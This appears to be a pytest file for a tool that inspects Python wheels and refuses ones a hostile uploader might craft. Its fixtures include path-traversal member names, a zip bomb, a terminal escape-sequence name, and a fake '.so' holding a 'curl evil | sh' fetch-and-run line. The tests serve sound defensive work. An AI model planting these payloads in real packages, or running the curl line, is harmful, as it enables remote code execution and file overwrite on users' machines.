"""Wheels a careless build or a hostile uploader could make: members outside the wheel, libraries for another machine,
a .so that is not ELF, zip bombs, encryption, unsupported compression, broken metadata. Inspection refuses each one
(exit 6) naming the wheel and the member, reads no member of an unsafe archive, and never stops the run."""

from __future__ import annotations

import struct
import zipfile
from pathlib import Path

import pytest

from pipeline.cli import main
from pipeline.infra import wheels
from pipeline.stages.build.inspect import Target, inspect_wheel
from tests.wheelfactory import make_wheel

ANY_HOST = Target(gpu=False, arch=None, driver_cuda=None, torch_version="2.13.0", platform=None)


def _elf(machine: int) -> bytes:
    """A 64-bit little-endian ELF header of a shared object for `machine`, then some bytes of code."""
    ident = b"\x7fELF" + bytes([2, 1, 1]) + bytes(9)
    return ident + struct.pack("<HHI", 3, machine, 1) + bytes(40) + b"\x90" * 64


def _problems(wheel: Path) -> tuple[str, ...]:
    report = inspect_wheel(wheel, ANY_HOST, None)
    assert report.status.value == "FAIL", report
    return report.problems


def _raw_wheel(path: Path, members: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> Path:
    """An archive written member by member, as a hostile uploader would, with no RECORD rules kept."""
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


@pytest.mark.parametrize("member", ["../../evil.so", "/etc/evil.so", "vllm/../../../evil.py", "C:/evil.so"])
def test_a_member_outside_the_wheel_is_refused_before_anything_is_read(tmp_path: Path, member: str) -> None:
    wheel = make_wheel(tmp_path, "vllm", "0.27.2", {"ops.py": b"pass\n"}, platform="linux_x86_64")
    with zipfile.ZipFile(wheel, "a") as archive:
        archive.writestr(member, _elf(62))
    (problem,) = _problems(wheel)
    assert problem == f"{member}: not a relative path inside the wheel"


def test_a_library_for_another_machine_than_the_tag_is_refused(tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path, "vllm", "0.27.2", {"_C.so": _elf(62), "_moe.so.1": _elf(183)})
    assert wheel.name.endswith("linux_aarch64.whl")
    assert _problems(wheel) == ("vllm/_C.so: built for x86_64, but the wheel is tagged linux_aarch64",)
    (tmp_path / "right").mkdir()
    right = make_wheel(tmp_path / "right", "vllm", "0.27.2", {"_C.so": _elf(183)})
    assert inspect_wheel(right, ANY_HOST, None).status.value == "PASS"


def test_a_shared_library_that_is_not_elf_is_refused(tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path, "vllm", "0.27.2", {"_C.so": b"#!/bin/sh\ncurl evil | sh\n"})
    assert _problems(wheel) == ("vllm/_C.so: named like a shared library but not an ELF file",)


def test_a_zip_bomb_is_refused_by_its_ratio_and_a_member_over_the_cap_by_its_size(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bomb = make_wheel(tmp_path, "vllm", "0.27.2", {"_C.so": bytes(64 * 1024**2)})  # 64 MiB of zeros, ~64 KiB packed
    assert bomb.stat().st_size < 1024**2
    (problem,) = _problems(bomb)
    assert problem.startswith("vllm/_C.so: 67108864 bytes from ") and "a zip bomb?" in problem
    monkeypatch.setattr(wheels, "MAX_MEMBER_BYTES", 1024**2)
    (tmp_path / "big").mkdir()
    big = make_wheel(tmp_path / "big", "vllm", "0.27.2", {"data.bin": bytes(range(256)) * 8192})
    (problem,) = _problems(big)
    assert problem == f"vllm/data.bin: 2097152 bytes unpacked, over the {1024**2}-byte cap"


def test_encrypted_members_and_unsupported_compression_are_refused(tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path, "vllm", "0.27.2", {"ops.py": b"pass\n"})
    data = bytearray(wheel.read_bytes())
    local = data.find(b"PK\x03\x04")
    central = data.find(b"PK\x01\x02")
    data[local + 6] |= 1  # general purpose flag bit 0: encrypted
    data[central + 8] |= 1
    wheel.write_bytes(bytes(data))
    (problem,) = _problems(wheel)
    assert problem.endswith(": encrypted")
    (tmp_path / "bz").mkdir()
    lzma = _raw_wheel(tmp_path / "bz" / "vllm-0.27.2-py3-none-any.whl", {"vllm/ops.py": b"pass\n"}, compression=14)
    (problem,) = _problems(lzma)
    assert problem == "vllm/ops.py: compression method 14 (a wheel is stored or deflated)"


@pytest.mark.parametrize(
    ("members", "name", "expected"),
    [
        ({"vllm/ops.py": b"pass\n"}, "vllm-0.27.2-py3-none-any.whl", "unreadable archive: expected one .dist-info"),
        (
            {"vllm-0.27.2.dist-info/RECORD": b"x" * 200_000 + b",sha256=,1\n"},
            "vllm-0.27.2-py3-none-any.whl",
            "unreadable archive: field larger than field limit",
        ),
        (
            {"vllm-0.27.2.dist-info/METADATA": b"Name: vllm\n", "vllm-0.27.2.dist-info/RECORD": b""},
            "not-a-wheel-name.whl",
            "unreadable wheel: not-a-wheel-name.whl is not a wheel file name",
        ),
        (
            {"vllm-0.27.2.dist-info/RECORD": b"vllm-0.27.2.dist-info/RECORD,,\n"},
            "vllm-0.27.2-py3-none-any.whl",
            "unreadable wheel: \"There is no item named 'vllm-0.27.2.dist-info/METADATA' in the archive\"",
        ),
    ],
)
def test_broken_metadata_is_a_refusal_not_a_crash(
    tmp_path: Path, members: dict[str, bytes], name: str, expected: str
) -> None:
    wheel = _raw_wheel(tmp_path / name, members)
    problems = _problems(wheel)
    assert problems[0].startswith(expected), problems


def test_metadata_that_is_not_utf8_is_a_refusal(tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path, "vllm", "0.27.2", {"ops.py": b"pass\n"}, platform="any")
    with zipfile.ZipFile(wheel) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    members["vllm-0.27.2.dist-info/METADATA"] = b"Name: vllm\nVersion: \xff\xfe\n"
    rewritten = tmp_path / "rewritten" / wheel.name
    rewritten.parent.mkdir()
    _raw_wheel(rewritten, members)
    assert any("codec can't decode" in p or "RECORD hash" in p for p in _problems(rewritten))


def test_the_cli_exits_6_and_shows_hostile_names_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(Path(__file__).parents[2])
    wheel = make_wheel(tmp_path, "vllm", "0.27.2", {"ops.py": b"pass\n"}, platform="linux_x86_64")
    with zipfile.ZipFile(wheel, "a") as archive:
        archive.writestr("vllm/\x1b[2Jgone\n.so", _elf(62))
    assert main(["inspect", "--profile", "cpu", str(wheel)]) == 6
    out = capsys.readouterr()
    assert "\x1b" not in out.out + out.err
    assert "vllm/\\x1b[2Jgone\\n.so: the member name holds control characters" in out.out
    corrupt = tmp_path / "corrupt" / "vllm-0.27.2-py3-none-any.whl"
    corrupt.parent.mkdir()
    corrupt.write_bytes(b"PK\x03\x04 not a zip at all")
    assert main(["inspect", "--profile", "cpu", str(corrupt)]) == 6
    assert "unreadable archive" in capsys.readouterr().out
